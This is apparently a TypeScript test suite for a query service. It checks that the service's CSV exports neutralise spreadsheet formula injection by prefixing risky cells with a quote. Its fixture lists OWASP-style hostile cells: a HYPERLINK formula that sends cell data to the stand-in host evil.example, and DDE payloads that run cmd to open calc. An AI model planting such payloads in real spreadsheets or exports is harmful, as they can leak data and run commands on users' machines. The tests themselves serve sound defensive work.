import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { csvText, csvValue } from '../../src/query/formats/csv-result';
import { createApiKey, type TestUser } from '../support/accounts';
import { parseCsv } from '../support/csv';
import { bodyOf } from '../support/http';
import { submitJobOk, waitForJob } from '../support/jobs';
import { pushOk } from '../support/lake';
import type { TestApp } from '../support/test-app';
import { withWorkspace } from '../support/fixtures';

/** Text a spreadsheet would run as a formula, each spelling OWASP lists (and one safe text). */
const hostile = [
  '=HYPERLINK("http://evil.example/?d="&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'plain text',
];

const sql = `SELECT ord, label, amount, ratio, -9007199254740993::BIGINT AS big, -12.345::DECIMAL(38,3) AS exact, '-Infinity'::DOUBLE AS inf, label AS "=cmd()", 1 AS "-x"
  FROM cells.t ORDER BY ord`;

/**
 * Every CSV the service writes (query and execute answers, job result pages, public chart data, the
 * usage export) opens in a spreadsheet as data: a text cell starting with `=`, `+`, `-`, `@`, a tab or
 * a carriage return gets a leading single quote (OWASP's advice), header cells too; numbers, negative
 * ones included, stay numbers.
 */
describe('CSV answers and formula injection', () => {
  let t: TestApp, user: TestUser, workspaceId: string;
  let apiKey: string;

  beforeAll(async () => {
    ({ t, user, workspaceId } = await withWorkspace('local', { worker: true, env: { PUBLIC_VIEWS_PER_ADDRESS: '1000' }, label: 'csv', plan: 'business' }));
    apiKey = await createApiKey(t, user, 'csv');
    await pushOk(t, workspaceId, user, { table: 'cells.t', records: hostile.map((label, ord) => ({ ord, label, amount: -5 - ord, ratio: -1.5 })) });
  });
  afterAll(() => t.stop());

  /** Every cell as written, checked against what the table holds. */
  const expectNeutral = (text: string) => {
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(['ord', 'label', 'amount', 'ratio', 'big', 'exact', 'inf', "'=cmd()", "'-x"]);
    expect(rows).toHaveLength(hostile.length);
    rows.forEach((row, ord) => {
      const label = hostile[ord]!;
      const shown = /^[=+\-@\t\r]/.test(label) ? `'${label}` : label;
      expect(row).toEqual([String(ord), shown, String(-5 - ord), '-1.5', '-9007199254740993', '-12.345', '-Infinity', shown, '1']);
    });
  };

  test('POST /query and /workspaces/{id}/query as CSV', async () => {
    for (const path of ['/api/v1/query', `/api/v1/workspaces/${workspaceId}/query`]) {
      const response = await t.request(path, { method: 'POST', json: { sql, format: 'csv', workspace_id: workspaceId }, token: user.accessToken });
      expect(response.status).toBe(200);
      expectNeutral(await response.text());
    }
  });

  test('POST /execute as CSV, with an API key', async () => {
    const response = await t.request('/api/v1/execute', {
      method: 'POST',
      json: { sql, format: 'csv', workspace_id: workspaceId },
      headers: { 'x-api-key': apiKey },
    });
    expect(response.status).toBe(200);
    expectNeutral(await response.text());
  });

  test('a job’s result page as CSV', async () => {
    const jobId = await submitJobOk(t, user, { sql, workspace_id: workspaceId, format: 'csv' });
    const job = await waitForJob(t, user, jobId);
    expect(job.status).toBe('succeeded');
    expectNeutral(job.result.csv);
  });

  test('a public chart’s data as CSV, and a public page’s', async () => {
    const api = `/api/v1/workspaces/${workspaceId}`;
    const created = await t.request(`${api}/charts`, {
      method: 'POST',
      json: { name: 'cells', title: 'Cells', sql, chart_type: 'table', config: {} },
      token: user.accessToken,
    });
    expect(created.status).toBe(201);
    const { token } = await bodyOf(await t.request(`${api}/charts/cells/publish`, { method: 'POST', json: {}, token: user.accessToken }));
    const chart = await t.request(`/c/${token}/data?format=csv`);
    expect(chart.status).toBe(200);
    expectNeutral(await chart.text());
    expect(
      (await t.request(`${api}/pages`, { method: 'POST', json: { name: 'cells', title: 'Cells', charts: ['cells'] }, token: user.accessToken })).status,
    ).toBe(201);
    const page = await bodyOf(await t.request(`${api}/pages/cells/publish`, { method: 'POST', json: {}, token: user.accessToken }));
    const pageData = await t.request(`/p/${page.token}/charts/0/data?format=csv`);
    expect(pageData.status).toBe(200);
    expectNeutral(await pageData.text());
  });

  test('the usage export: no text cell a spreadsheet would run', async () => {
    // A query of this test's own, whatever ran before it: the export has a record to show.
    const ran = await t.request('/api/v1/execute', {
      method: 'POST',
      json: { sql, format: 'csv', workspace_id: workspaceId },
      headers: { 'x-api-key': apiKey },
    });
    expect(ran.status).toBe(200);
    await t.services.usageRecorded();
    const response = await t.request(`/api/v1/workspaces/${workspaceId}/usage/export`, { token: user.accessToken });
    expect(response.status).toBe(200);
    const rows = parseCsv(await response.text());
    expect(rows.length).toBeGreaterThan(1);
    for (const cell of rows.flat()) expect(/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-\d/.test(cell))).toBe(false);
  });

  test('the rule itself: text gets the quote, numbers never do', () => {
    expect(hostile.map(csvText)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")"`,
      `'+1+cmd|' /C calc'!A0`,
      `'-2+3+cmd|' /C calc'!A0`,
      `'@SUM(1+1)*cmd|' /C calc'!A0`,
      `'\t=1+1`,
      `"'\r=1+1"`,
      'plain text',
    ]);
    expect([csvValue(-5), csvValue(-0.25), csvValue('-12.5', true), csvValue('-12.5'), csvValue(null), csvValue(['=x']), csvValue(true)]).toEqual([
      '-5',
      '-0.25',
      '-12.5',
      "'-12.5",
      '',
      '"[""=x""]"',
      'true',
    ]);
  });
});
